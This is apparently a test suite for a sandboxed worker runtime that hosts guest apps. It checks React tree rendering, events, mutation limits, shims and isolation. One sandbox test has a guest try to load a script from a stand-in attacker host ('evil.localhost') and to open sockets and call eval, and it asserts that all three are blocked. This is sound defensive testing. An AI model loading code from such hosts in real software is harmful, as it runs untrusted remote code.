import type { Page } from "playwright";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { release, SHARED_REACT, welcome } from "./testing/guest.ts";
import { type OpenOptions, openGuest } from "./testing/open-guest.ts";
import { type Rig, startRig } from "./testing/rig.ts";

let rig: Rig;
let page: Page;

beforeAll(async () => {
  rig = await startRig();
});
afterAll(() => rig.close());
beforeEach(async () => {
  ({ page } = await rig.newHostPage());
});
afterEach(() => page.context().close());

const open = (options: OpenOptions) =>
  openGuest(rig, page, { page: "worker", welcome: welcome({ app: { ...welcome().app, sandbox: "worker" } }), ...options });

interface Node {
  readonly id: string;
  readonly element: string;
  readonly properties: Record<string, unknown>;
  readonly listens: string[];
  readonly children: (Node | string)[];
}

async function tree(id: number): Promise<Node[]> {
  return (await page.evaluate((n) => window.peer.tree(n), id)) as Node[];
}
/** Waits until the drawn tree, as JSON, contains `text`. */
async function drawn(id: number, text: string): Promise<Node[]> {
  await page.waitForFunction(([n, wanted]) => JSON.stringify(window.peer.tree(n)).includes(wanted), [id, text] as const);
  return tree(id);
}

const COUNTER = `${SHARED_REACT}
export default function App({ plaza }) {
  const [count, setCount] = React.useState(0);
  const [name, setName] = React.useState("");
  return jsx("plaza-stack", { gap: 8, children: [
    jsx("plaza-text", { key: "t", children: "Count " + count + " for " + name }),
    jsx("plaza-text-field", { key: "f", label: "Name", value: name, oninput: (event) => setName(event.detail.value) }),
    jsx("plaza-button", { key: "b", label: "More", kind: "ink", onpress: () => setCount(count + 1) }),
    count > 1 ? null : jsx("plaza-list", { key: "l", label: "Rows", children: [1, 2, 3].map((n) => jsx("plaza-text", { key: n, children: "row " + n })) }),
  ] });
}`;

describe("a worker guest", () => {
  it("draws a tree of the host's components with React, as plain data over the wire [L2]", async () => {
    const { id, outcome } = await open({ load: release(COUNTER) });
    expect(outcome).toMatchObject({ plaza: "loaded" });
    const [stack] = await drawn(id, "row 3");
    expect(stack).toMatchObject({ element: "plaza-stack", properties: { gap: 8 } });
    const [text, field, button, list] = (stack?.children ?? []) as Node[];
    expect(text).toMatchObject({ element: "plaza-text", children: ["Count 0 for "] });
    expect(field).toMatchObject({ element: "plaza-text-field", properties: { label: "Name", value: "" }, listens: ["input"] });
    expect(button).toMatchObject({ element: "plaza-button", properties: { label: "More", kind: "ink" }, listens: ["press"] });
    expect(list?.children).toHaveLength(3);
  });

  it("hears the events of what the host drew, updates it, and forgets what it removed [L2]", async () => {
    const { id } = await open({ load: release(COUNTER) });
    const [stack] = await drawn(id, "row 3");
    const [, field, button] = (stack?.children ?? []) as [unknown, Node, Node];
    const send = (element: string, type: string, detail: unknown) =>
      page.evaluate(([n, frame]) => window.peer.send(n, { plaza: "ui-event", ...frame }), [id, { element, type, detail }] as const);
    await send(field.id, "input", { value: "Linh" });
    await drawn(id, "for Linh");
    await send(button.id, "press", {});
    await drawn(id, "Count 1");
    await send(button.id, "press", {});
    const [after] = await drawn(id, "Count 2");
    expect(after?.children).toHaveLength(3);
    await send("no-such-element", "press", {});
    await send(button.id, "press", {});
    await drawn(id, "Count 3");
  });

  it("sends no function, no nested tree and at most 400 mutations in a frame", async () => {
    const app = `export function mount(root) {
      const list = document.createElement("plaza-list");
      let inner = list;
      for (let n = 0; n < 40; n++) inner = inner.appendChild(document.createElement("plaza-stack"));
      for (let n = 0; n < 900; n++) list.append(Object.assign(document.createElement("plaza-text"), { size: () => "a function", tone: { deep: [1, NaN, new Map()] } }));
      root.append(list);
    }`;
    const { id } = await open({ load: release(app) });
    await page.waitForFunction((n) => (window.peer.tree(n) as { children: unknown[] }[])[0]?.children.length === 901, id);
    const frames = (await page.evaluate((n) => window.peer.frames(n).filter((frame) => frame.plaza === "ui"), id)) as {
      mutations: unknown[][];
    }[];
    expect(Math.max(...frames.map((frame) => frame.mutations.length))).toBe(400);
    const inserted = frames
      .flatMap((frame) => frame.mutations)
      .map((mutation) => mutation[2] as { children?: unknown[]; properties?: Record<string, unknown> });
    expect(inserted.every((node) => (node.children ?? []).length === 0)).toBe(true);
    expect(inserted.find((node) => node.properties?.tone !== undefined)?.properties).toEqual({
      size: null,
      tone: { deep: [1, null, null] },
    });
  });

  it("lives in a classic worker of an opaque origin, without a document of the page's, and without network or WebAssembly [L2] [S-06] [S-11]", async () => {
    const app = `export async function mount(root, plaza) {
      const text = document.createElement("plaza-text");
      const tries = {};
      for (const [name, run] of Object.entries({
        websocket: () => new Promise((resolve, reject) => { const socket = new WebSocket("ws://localhost:1"); socket.onerror = () => reject(new Error("blocked")); socket.onopen = resolve; }),
        importScripts: () => importScripts("${"http://evil.localhost:1/x.js"}"),
        eval: () => (0, eval)("1"),
      })) { try { await run(); tries[name] = "ran"; } catch (error) { tries[name] = "stopped"; } }
      text.textContent = JSON.stringify({ origin: self.origin, worker: typeof WorkerGlobalScope, rtc: typeof RTCPeerConnection, wasm: typeof WebAssembly, native: typeof HTMLCanvasElement, tries });
      root.append(text);
    }`;
    const { id } = await open({ load: release(app) });
    const [text] = await drawn(id, "origin");
    expect(JSON.parse(String(text?.children[0]))).toEqual({
      origin: "null",
      worker: "function",
      rtc: "undefined",
      wasm: "undefined",
      native: "undefined",
      tries: { websocket: "stopped", importScripts: "stopped", eval: "stopped" },
    });
  });

  it("has the same shims: localStorage, history with popstate, location, fetch, and the host's Back [J4]", async () => {
    const app = `export async function mount(root, plaza) {
      const text = document.createElement("plaza-text");
      root.append(text);
      const show = () => { text.textContent = [window === globalThis, localStorage.theme, location.pathname + location.search, history.length].join(); };
      addEventListener("popstate", show);
      history.pushState(null, "", "/two");
      await fetch("https://x.example/").catch((error) => localStorage.setItem("code", error.cause.code));
      show();
    }`;
    const { id, called, request } = await open({
      load: release(app, { storage: { theme: "dark" } }),
      answers: { "network.fetch": { error: "OFFLINE" } },
    });
    await drawn(id, "true,dark,/two,2");
    expect(await called("storage.set")).toEqual([{ scope: "device", key: "code", value: "OFFLINE" }]);
    expect(await request("back")).toEqual({ handled: true });
    await drawn(id, "true,dark,/menu?table=4,2");
    expect(await request("back")).toEqual({ handled: false });
  });

  it("fails typed for an unlisted chunk, and reports what nobody caught [L5]", async () => {
    const missing = await open({ load: release(`await globalThis[Symbol.for("plaza.import")]("x.js"); export function mount() {}`) });
    expect(missing.outcome).toMatchObject({ error: { code: "INTEGRITY_FAILED" } });
    const { id } = await open({
      load: release(`export function mount() { setTimeout(() => { throw new Error("late"); }); Promise.reject(new Error("promised")); }`),
    });
    await page.waitForFunction((n) => window.peer.frames(n).filter((frame) => frame.plaza === "uncaught").length === 2, id);
  });

  it("a hung worker goes with its frame, and the host never waits [H-02]", async () => {
    const { id } = await open({ load: release(`export function mount() { setTimeout(() => { for (;;); }); }`) });
    const gap = await page.evaluate(async (n) => {
      const start = performance.now();
      document.querySelectorAll("iframe")[n]?.remove();
      await new Promise((resolve) => setTimeout(resolve));
      return performance.now() - start;
    }, id);
    expect(gap).toBeLessThan(100);
  });
});
